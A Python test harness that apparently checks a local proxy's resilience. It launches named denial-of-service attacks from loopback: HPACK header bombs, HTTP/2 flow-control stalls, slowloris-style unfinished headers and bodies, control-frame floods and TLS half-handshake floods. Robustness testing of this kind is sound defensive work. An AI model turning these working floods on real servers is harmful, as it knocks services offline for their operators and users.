"""Clients of one address that want memory: they open connections, send what they can, and stay.

http_attacks.py TASK PORT ATTACK   serves as the attacked task on a port of that address, attacks PORT with
                                   what is named; prints the task's port, and "said" when all is said
"""

import asyncio
import socket
import ssl
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

from hpack import Encoder
from hyperframe.frame import DataFrame, HeadersFrame, PingFrame, SettingsFrame, WindowUpdateFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENEMY = "127.0.0.1"  # where all of them come from
STREAMS = 128
FILLER = b"y" * 3000

Address = tuple[str, int]


class Crowd:
    """Connections that are held until `close`."""

    def __init__(self, address: Address) -> None:
        self.address = address
        self._socks: list[socket.socket] = []

    async def connect(self) -> socket.socket:
        sock = socket.socket()
        self._socks.append(sock)
        sock.setblocking(False)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.bind((ENEMY, 0))
        await asyncio.get_running_loop().sock_connect(sock, self.address)
        return sock

    async def say(self, sock: socket.socket, data: bytes, seconds: float = 2.0) -> None:
        """All of it, or as much as is taken in that time."""
        try:
            async with asyncio.timeout(seconds):
                await asyncio.get_running_loop().sock_sendall(sock, data)
        except (TimeoutError, OSError):
            pass

    async def all_say(self, count: int, data: bytes) -> None:
        """So many connections, fifty at a time."""

        async def one() -> None:
            try:
                sock = await self.connect()
            except OSError:
                return
            await self.say(sock, data)

        for _ in range(0, count, 50):
            await asyncio.gather(*(one() for _ in range(50)))

    def close(self) -> None:
        for sock in self._socks:
            sock.close()
        self._socks.clear()


def greeting(**settings: int) -> bytes:
    named = {getattr(SettingsFrame, name): value for name, value in settings.items()}
    return PREFACE + SettingsFrame(0, named).serialize()


def request(encoder: Encoder, id_: int, path: str, *more: tuple[str, str], end: bool = True) -> bytes:
    method = "GET" if end else "POST"
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a.example"), *more]
    block = encoder.encode(fields, huffman=False)
    frames, first = [], HeadersFrame(id_, block[:16_000], flags=["END_STREAM"] * end)
    first.flags.add("END_HEADERS")
    frames.append(first.serialize())
    return b"".join(frames)


def requests(
    path: str, *, more: tuple[tuple[str, str], ...] = (), end: bool = True, body: bytes = b""
) -> bytes:
    encoder, sent = Encoder(), []
    for id_ in range(1, 2 * STREAMS, 2):
        sent.append(request(encoder, id_, path, *more, end=end))
        if body:
            sent.append(DataFrame(id_, body).serialize())
    return b"".join(sent)


async def hpack_bombs(crowd: Crowd) -> None:
    """A field of 3 kB, kept by the compression, comes again for a byte each time: heads of 60 kB."""
    bomb = tuple(("x-filler", FILLER.decode()) for _ in range(20))
    await crowd.all_say(200, greeting() + requests("/never", more=bomb))


async def downloads_with_closed_windows(crowd: Crowd) -> None:
    await crowd.all_say(100, greeting(INITIAL_WINDOW_SIZE=0) + requests("/large"))


async def downloads_that_nobody_reads(crowd: Crowd) -> None:
    open_ = greeting(INITIAL_WINDOW_SIZE=2**30) + WindowUpdateFrame(0, 2**30).serialize()
    await crowd.all_say(200, open_ + requests("/large"))


async def downloads_of_http_1(crowd: Crowd) -> None:
    await crowd.all_say(1000, b"GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n")


def _large_head(end: bytes) -> bytes:
    fields = b"".join(b"X-%d: %b\r\n" % (number, FILLER) for number in range(20))
    return b"GET /never HTTP/1.1\r\nHost: a.example\r\n" + fields + end


async def slow_heads(crowd: Crowd) -> None:
    """60 kB of a head that does not end."""
    await crowd.all_say(1000, _large_head(b""))


async def large_heads(crowd: Crowd) -> None:
    await crowd.all_say(1000, _large_head(b"\r\n"))


async def large_heads_between_requests(crowd: Crowd) -> None:
    """What a connection remembers of its last request."""
    await crowd.all_say(1900, _large_head(b"\r\n").replace(b"/never", b"/"))


async def unfinished_blocks(crowd: Crowd) -> None:
    """Of fields, in HTTP/2."""
    block = Encoder().encode([(f"x-{number}", FILLER.decode()) for number in range(5)], huffman=False)
    await crowd.all_say(1000, greeting() + HeadersFrame(1, block[:16_000]).serialize())


async def remembered_blocks(crowd: Crowd) -> None:
    """As many different ones as a connection may keep, from thousands. No task is asked: the path is none."""
    encoder = Encoder()
    encoder.header_table_size = 0
    asked = [request(encoder, id_, "/\x7f", ("x-filler", f"{id_}" + "y" * 900)) for id_ in range(1, 160, 2)]
    await crowd.all_say(500, greeting() + b"".join(asked))


async def trickling_bodies(crowd: Crowd) -> None:
    head = b"POST /deaf HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1000000\r\n\r\n"
    await crowd.all_say(1000, head + b"x")


async def bodies_that_a_task_does_not_take(crowd: Crowd) -> None:
    head = b"POST /deaf HTTP/1.1\r\nHost: a.example\r\nContent-Length: 10000000\r\n\r\n"
    await crowd.all_say(300, head + bytes(5_000_000))


async def bodies_in_streams(crowd: Crowd) -> None:
    await crowd.all_say(100, greeting() + requests("/deaf", end=False, body=bytes(16_000)))


async def control_frames(crowd: Crowd) -> None:
    """2.6 MB of each kind, again and again."""
    for frame in (
        WindowUpdateFrame(0, 1).serialize(),
        PingFrame(0, bytes(8)).serialize(),
        PingFrame(0, bytes(8), flags=["ACK"]).serialize(),
        SettingsFrame(0, flags=["ACK"]).serialize(),
        DataFrame(1, b"a").serialize(),
        b"\0\0\0\xfa\0\0\0\0\0",
    ):
        first = greeting() + request(Encoder(), 1, "/never", end=False)
        flood = first + frame * (2_600_000 // len(frame))
        await crowd.all_say(20, flood)


async def silent_connections(crowd: Crowd) -> None:
    await crowd.all_say(1000, b"")


ATTACKS: dict[str, Callable[[Crowd], Awaitable[None]]] = {
    one.__name__: one
    for one in (
        hpack_bombs,
        downloads_with_closed_windows,
        downloads_that_nobody_reads,
        downloads_of_http_1,
        slow_heads,
        large_heads,
        large_heads_between_requests,
        unfinished_blocks,
        remembered_blocks,
        trickling_bodies,
        bodies_that_a_task_does_not_take,
        bodies_in_streams,
        control_frames,
        silent_connections,
    )
}

HANDSHAKES = 3000  # half ones; more than a listener has under way at once, and than an address may have


def _client_hello() -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="a.example").do_handshake()
    return outgoing.read()


async def half_handshakes(crowd: Crowd) -> None:
    """The whole first message: the server has made its keys and answered, and hears no more."""
    await crowd.all_say(HANDSHAKES, _client_hello())


async def half_first_messages(crowd: Crowd) -> None:
    """A record of 16 kB that lacks its last byte."""
    await crowd.all_say(HANDSHAKES, b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + bytes(0x4000 - 7))


async def renewed_handshakes(crowd: Crowd) -> None:
    """Clients that leave in the middle, and come again."""
    for _ in range(3):
        await crowd.all_say(HANDSHAKES // 3, _client_hello())
        crowd.close()


TLS_ATTACKS: dict[str, Callable[[Crowd], Awaitable[None]]] = {
    one.__name__: one for one in (half_handshakes, half_first_messages, renewed_handshakes)
}

LARGE = 2_000_000


async def task(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Answers with two bytes or two megabytes, never, or takes no body."""
    try:
        while head := await reader.readuntil(b"\r\n\r\n"):
            if b"/never" in head or b"/deaf" in head:
                await asyncio.Event().wait()
            size = LARGE if b"/large" in head else 2
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % size)
            for _ in range(0, size, 100_000):
                writer.write(bytes(min(size, 100_000)))
                await writer.drain()
    except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
        writer.close()


async def main(address: str, port: str, attack: str) -> None:
    server = await asyncio.start_server(task, address, 0, limit=2**17, backlog=4096)
    print(server.sockets[0].getsockname()[1], flush=True)
    await asyncio.to_thread(sys.stdin.readline)  # the sidecar is there
    crowd = Crowd((ENEMY, int(port)))
    await (ATTACKS | TLS_ATTACKS)[attack](crowd)
    print("said", flush=True)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
